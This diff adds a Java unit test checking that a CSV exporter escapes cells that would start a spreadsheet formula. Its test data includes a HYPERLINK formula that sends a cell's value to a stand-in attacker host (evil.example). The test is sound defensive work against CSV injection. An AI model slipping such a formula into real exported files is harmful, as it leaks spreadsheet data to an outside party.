@@ -36,4 +36,18 @@ class TableExportTests {
             assertThat(rows.get(2).getCellText(0)).isEqualTo("=HYPERLINK(\"x\")");
         }
     }
+
+    @Test
+    void csvCellsThatWouldStartAFormulaAreShownAsTextAndTypedNumbersStayNumbers() {
+        List<List<?>> rows = List.of(
+                List.of("=HYPERLINK(\"http://evil.example/?x=\"&A2,\"Click\")", "+1", -12),
+                List.of("-2+3", "@SUM(A1)", new BigDecimal("-0.5")),
+                List.of("\t=1", "\r=1", "a=b"));
+        byte[] csv = TableExport.csv(HEADERS, rows);
+        String text = new String(csv, 3, csv.length - 3, StandardCharsets.UTF_8);
+        assertThat(text.split("\r\n")).containsExactly("name,country,count",
+                "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A2,\"\"Click\"\")\",'+1,-12",
+                "'-2+3,'@SUM(A1),-0.5",
+                "'\t=1,\"'\r=1\",a=b");
+    }
 }
